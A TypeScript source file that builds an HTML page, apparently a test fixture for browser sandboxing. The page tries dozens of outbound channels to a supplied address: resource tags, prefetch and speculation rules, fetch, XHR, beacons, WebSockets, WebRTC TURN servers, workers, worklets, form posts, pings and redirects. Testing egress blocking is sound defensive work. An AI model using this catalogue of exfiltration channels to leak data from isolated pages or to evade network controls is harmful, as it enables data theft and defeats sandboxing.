/** A page that tries every way out of a browser we know of, each to its own address at `to`. */
export const attackPage = (to: string): string => {
  const { host } = new URL(to)
  return `<!doctype html><html><head>
<title>Attack</title>
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${to}/csp-report">
<link rel="icon" href="${to}/icon">
<link rel="manifest" href="${to}/manifest">
<link rel="stylesheet" href="${to}/stylesheet.css">
<link rel="prefetch" href="${to}/prefetch">
<link rel="prerender" href="${to}/prerender">
<link rel="preload" as="script" href="${to}/preload.js">
<link rel="modulepreload" href="${to}/modulepreload.js">
<link rel="preconnect" href="${to}">
<link rel="dns-prefetch" href="//canary.example.com">
<script type="speculationrules">${JSON.stringify({
    prefetch: [{ source: 'list', urls: [`${to}/speculation-prefetch`], eagerness: 'immediate' }],
    prerender: [{ source: 'list', urls: [`${to}/speculation-prerender`], eagerness: 'immediate' }],
  })}</script>
<style>@import url(${to}/import.css); @font-face { font-family: x; src: url(${to}/font) } body { font-family: x; background: url(${to}/background) }</style>
</head><body>
<p>Words in a font from elsewhere</p>
<img src="${to}/image"><img srcset="${to}/srcset 1x"><picture><source srcset="${to}/source"><img></picture>
<iframe src="${to}/frame"></iframe><iframe srcdoc="<img src='${to}/srcdoc'>"></iframe>
<object data="${to}/object"></object><embed src="${to}/embed">
<video src="${to}/video" poster="${to}/poster" autoplay><track default src="${to}/track"></video><audio src="${to}/audio" autoplay></audio>
<svg><image href="${to}/svg-image"/><use href="${to}/svg-use#x"/></svg>
<input type="image" src="${to}/input">
<a id="ping" href="#" ping="${to}/ping">ping</a><a id="download" href="${to}/download" download>download</a>
<form id="form" method="post" action="${to}/form" target="_blank"><input name="a" value="b"></form>
<script src="${to}/script.js"></script>
<script type="module">import('${to}/module.js').catch(() => {})</script>
<script>
const attempts = [
  () => fetch('${to}/fetch'),
  () => fetch('${to}/fetch-post', { method: 'POST', body: 'x' }),
  () => fetch('${to}/fetch-no-cors', { mode: 'no-cors', method: 'POST', body: 'x' }),
  () => fetch('${to}/fetch-keepalive', { keepalive: true, method: 'POST', body: 'x' }),
  () => { const request = new XMLHttpRequest(); request.open('PUT', '${to}/xhr'); request.setRequestHeader('x-a', 'b'); request.send() },
  () => navigator.sendBeacon('${to}/beacon', 'x'),
  () => new WebSocket('ws://${host}/websocket'),
  () => new EventSource('${to}/eventsource'),
  () => new WebTransport('https://${host}/webtransport'),
  () => { new Image().src = '${to}/new-image' },
  async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }, { urls: 'turn:${host}', username: 'a', credential: 'b' }, { urls: 'turn:${host}?transport=tcp', username: 'a', credential: 'b' }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription(await connection.createOffer())
  },
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker-fetch'); new WebSocket('ws://${host}/worker-websocket'); importScripts('${to}/worker-import.js')"]))),
  () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('${to}/shared-worker-fetch'); new WebSocket('ws://${host}/shared-worker-websocket')"]))),
  () => navigator.serviceWorker.register('/service-worker.js'),
  () => new AudioContext().audioWorklet.addModule('${to}/audio-worklet.js'),
  () => CSS.paintWorklet.addModule('${to}/paint-worklet.js'),
  () => document.getElementById('ping').click(),
  () => document.getElementById('form').submit(),
  () => open('${to}/window'),
  () => open('${to}/window-alone', '_blank', 'noopener'),
  () => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = '${to}/frame-moved' },
  () => { addEventListener('pagehide', () => navigator.sendBeacon('${to}/beacon-at-the-end', 'x')) },
  () => { throw new Error('seen only in a report') },
]
for (const attempt of attempts) Promise.resolve().then(attempt).catch(() => {})
// Last, as they would end the page.
setTimeout(() => document.getElementById('download').click(), 4000)
setTimeout(() => { location = '${to}/moved' }, 4100)
</script></body></html>`
}
